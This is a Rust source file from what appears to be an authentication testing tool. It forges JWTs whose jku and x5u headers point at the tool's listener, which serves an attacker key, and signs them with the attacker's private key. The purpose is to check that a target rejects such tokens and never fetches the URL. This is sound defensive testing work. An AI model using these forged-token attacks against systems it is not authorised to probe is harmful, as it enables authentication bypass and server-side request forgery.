//! `jku` and `x5u` pointing at authprobe's own listener, which serves the attacker's key; the
//! token is signed with the attacker's private key. The target must refuse the token *and* never
//! fetch the URL (RFC 8725 §3.10: a fetch is server-side request forgery even when refused).

use serde_json::Value;

use super::{ATTACKER_KID, JwtAttack, JwtInputs, Variant};
use crate::jwt::forge::Draft;

/// Where the listener serves the attacker's JWKS and certificate.
pub const JWKS_PATH: &str = "/authprobe/jwks.json";
pub const CERT_PATH: &str = "/authprobe/cert.pem";

pub(super) fn jku(inputs: &JwtInputs<'_>) -> Result<Vec<Variant>, String> {
    pointing(inputs, JwtAttack::Jku, "jku", JWKS_PATH)
}

pub(super) fn x5u(inputs: &JwtInputs<'_>) -> Result<Vec<Variant>, String> {
    pointing(inputs, JwtAttack::X5u, "x5u", CERT_PATH)
}

fn pointing(
    inputs: &JwtInputs<'_>,
    attack: JwtAttack,
    field: &str,
    path: &str,
) -> Result<Vec<Variant>, String> {
    let listener = inputs
        .listener
        .ok_or_else(|| "authprobe's listener is not running".to_owned())?;
    // Under the listener's own path: `--listener https://watch.example/case-7` keeps `case-7`.
    let mut base = listener.clone();
    if !base.path().ends_with('/') {
        base.set_path(&format!("{}/", base.path()));
    }
    let url = base
        .join(path.trim_start_matches('/'))
        .map_err(|error| format!("no listener URL: {error}"))?;
    let mut draft = Draft::from_token(inputs.token)?;
    draft
        .header
        .insert(field.to_owned(), Value::String(url.to_string()));
    draft
        .header
        .insert("kid".to_owned(), Value::String(ATTACKER_KID.to_owned()));
    let forged = draft.sign_rs256(inputs.attacker);
    Ok(vec![Variant::jwt(attack, None, forged)])
}
